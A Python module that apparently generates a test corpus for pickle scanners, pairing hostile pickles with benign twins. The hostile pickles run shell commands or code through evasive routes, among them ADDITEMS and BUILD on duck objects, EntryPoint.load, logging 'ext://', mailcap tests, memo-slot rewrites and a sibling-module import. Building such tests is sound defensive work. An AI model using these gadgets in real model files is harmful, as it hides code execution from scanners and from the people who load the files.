"""Raw pickles: calls without a call opcode, resolvers that take names as data, memo and machine tricks."""

from __future__ import annotations

from assembly import Raw, build, call, dot, get, glob, model, new, new_ex, pickle, put, seq, text, val
from pair import CODE, SHELL

NAMESPACE = glob("types", "SimpleNamespace")


def entry_point(target: str) -> Raw:
    """What an entry point's text names, imported by `importlib.metadata`."""
    point = call(glob("importlib.metadata", "EntryPoint"), "vectorizer", target, "models")
    return call(dot("importlib.metadata", "EntryPoint.load"), point)


def duck(**attributes) -> Raw:
    """An instance whose methods are its own attributes."""
    return build(new(NAMESPACE), dict(attributes))


def add(out):
    def one(name, hostile, twin, file="model.pkl", prove="pickle", why=""):
        h = hostile if isinstance(hostile, (bytes, dict)) and not isinstance(hostile, Raw) else pickle(model(hostile))
        t = twin if isinstance(twin, (bytes, dict)) and not isinstance(twin, Raw) else pickle(model(twin))
        out.add("pickle", name, h, t, prove, file, why)

    plain = call(glob("collections", "Counter"), {"cat": 3, "dog": 1})

    # Calls that no call opcode makes.
    one(
        "additems_calls_add",
        Raw(duck(add=entry_point("os:system")) + b"(" + text(SHELL) + b"\x90"),
        Raw(b"\x8f(" + text(SHELL) + b"\x90"),
        why="ADDITEMS calls the `add` of whatever lies under it; the twin fills a set",
    )
    one(
        "build_calls_an_instance_setstate",
        build(duck(__setstate__=entry_point("subprocess:getoutput")), SHELL),
        build(duck(state=entry_free("subprocess:getoutput")), {"command": SHELL}),
        why="the second BUILD finds `__setstate__` in the instance; the twin keeps the same words as data",
    )
    one(
        "append_calls_append",
        Raw(duck(append=entry_point("posix:system")) + text(SHELL) + b"a"),
        Raw(b"]" + text(SHELL) + b"a"),
        why="APPEND calls the `append` of an object that is no list",
    )
    one(
        "shelf_setitem_writes",
        Raw(call(glob("shelve", "open"), "marker", "n") + text("weights") + val([0.5, 0.25]) + b"s"),
        Raw(call(glob("collections", "OrderedDict")) + text("weights") + val([0.5, 0.25]) + b"s"),
        why="SETITEM into a shelf writes a database file; the twin fills a dict",
    )
    one(
        "breakpoint_from_environment",
        seq(Raw(glob("os", "environ") + text("PYTHONBREAKPOINT") + text("os.system") + b"s"), call(glob("sys", "breakpointhook"), SHELL)),
        seq(Raw(b"}" + text("PYTHONBREAKPOINT") + text("0") + b"s"), plain),
        why="sys.breakpointhook imports the name that the environment holds and calls it with our arguments",
    )

    # Names that are only data until a resolver reads them.
    one(
        "entry_point_load",
        call(entry_point("os:popen"), SHELL),
        call(glob("collections", "OrderedDict"), [("name", "vectorizer"), ("value", "os:popen"), ("group", "models")]),
    )
    one(
        "logging_configurator_ext",
        call(
            call(
                dot("logging.config", "BaseConfigurator.convert"), call(glob("logging.config", "BaseConfigurator"), {}), "ext://os.system"
            ),
            SHELL,
        ),
        val({"version": 1, "handlers": {"console": {"class": "logging.StreamHandler", "stream": "ext://sys.stdout"}}}),
        why="`ext://` values are imported; the twin is a logging configuration kept as data",
    )
    one(
        "dotted_attribute_of_a_module",
        call(call(glob("xmlrpc.server", "resolve_dotted_attribute"), glob("http", "server"), "os.system"), SHELL),
        val({"resolver": ["http.server", "os.system"], "counts": plain}),
    )
    one(
        "reduce_getattr_private_alias",
        call(
            call(
                glob("functools", "reduce"),
                glob("builtins", "getattr"),
                ("_os", "system"),
                call(glob("importlib", "import_module"), "random"),
            ),
            SHELL,
        ),
        call(glob("functools", "reduce"), glob("operator", "add"), (1, 2, 3), 0),
        why="random._os is os; the twin folds a sum",
    )
    one(
        "globals_of_a_trusted_function",
        call(call(dot("json", "dumps.__builtins__.get"), "exec"), CODE),
        call(call(glob("builtins", "getattr"), val({"exec": [1, 2], "eval": [3]}), "get"), "exec"),
        why="a function's `__builtins__` is a dict that holds exec; the twin asks a plain dict for the same key",
    )

    # Data that a standard function runs.
    one(
        "mailcap_test_entry",
        call(glob("mailcap", "findmatch"), {"model/onnx": [{"view": "netron %s", "test": SHELL}]}, "model/onnx"),
        val({"mailcap": {"model/onnx": [{"view": "netron %s", "test": "test -n $DISPLAY"}]}}),
        why="findmatch runs the entry's test through the shell",
    )
    hints = Raw(val({"__annotations__": {"x": CODE, "return": "list[float]"}}))
    one(
        "type_hints_evaluate",
        call(glob("typing", "get_type_hints"), build(new(NAMESPACE), hints)),
        build(new(NAMESPACE), {"__annotations__": {"x": "float", "return": "list[float]"}}),
        why="typing.get_type_hints evaluates the strings of `__annotations__`",
    )
    one(
        "dataclass_function_maker",
        call(glob("dataclasses", "_create_fn"), "__init__", ["self", f"x={CODE}"], ["pass"]),
        new_ex(glob("argparse", "Namespace"), (), {"name": "__init__", "args": ["self", "x=0"], "body": ["pass"]}),
        why="the default of an argument is run while the function is made",
    )
    one(
        "platform_helper_reads_output",
        call(glob("_osx_support", "_read_output"), SHELL),
        call(glob("pathlib", "PurePosixPath"), "cache", SHELL),
        why="a private helper of the standard library that goes through os.system on every platform",
    )
    one(
        "work_item_run",
        call(
            dot("concurrent.futures.thread", "_WorkItem.run"),
            call(
                glob("concurrent.futures.thread", "_WorkItem"),
                call(glob("concurrent.futures._base", "Future")),
                glob("subprocess", "getoutput"),
                (SHELL,),
                {},
            ),
        ),
        new_ex(glob("argparse", "Namespace"), (), {"future": None, "fn": "subprocess.getoutput", "args": (SHELL,), "kwargs": {}}),
    )

    # The machine.
    slots = Raw(
        put(1, "collections")
        + b"0"
        + put(2, "OrderedDict")
        + b"0"
        + text("os")
        + b"r\x01\0\0\0"
        + b"0"
        + text("system")
        + b"q\x02"
        + b"0"
        + get(1)
        + get(2)
        + b"\x93"
    )
    calm = Raw(
        put(1, "os")
        + b"0"
        + put(2, "system")
        + b"0"
        + text("collections")
        + b"r\x01\0\0\0"
        + b"0"
        + text("OrderedDict")
        + b"q\x02"
        + b"0"
        + get(1)
        + get(2)
        + b"\x93"
    )
    one(
        "memo_slot_rewritten",
        call(slots, SHELL),
        call(calm, [(SHELL, 1)]),
        why="the slots are filled twice, the second time by LONG_BINPUT",
    )
    odd = b"Vposix\np1_0\n0Vsystem\np011\n0Vmath\np1\n0g10\ng11\n\x93(V" + SHELL.encode() + b"\ntR."
    even = b"Vcollections\np1_0\n0VOrderedDict\np011\n0Vposix\np1\n0g10\ng11\n\x93(tR."
    one("memo_indices_spelled_oddly", odd, even, why="text indices are read by int(): `1_0` is 10, `011` is 11")
    finder = call(glob("xml.sax", "make_parser"), ["tokens_extra"])
    one(
        "sax_parser_imports_a_sibling",
        {"model.pkl": pickle(model(seq(Raw(glob("sys", "path") + text(".") + b"a"), finder))), "tokens_extra.py": CODE + "\n"},
        {"model.pkl": pickle(model(["tokens_extra"])), "tokens_extra.py": "EXTRA = ['<pad>', '<mask>']\n"},
        why="make_parser imports each name it is given, here the file beside the model",
    )


def entry_free(target: str) -> Raw:
    """The same words as `entry_point`, as a named record that nothing resolves."""
    return val({"name": "vectorizer", "value": target, "group": "models"})
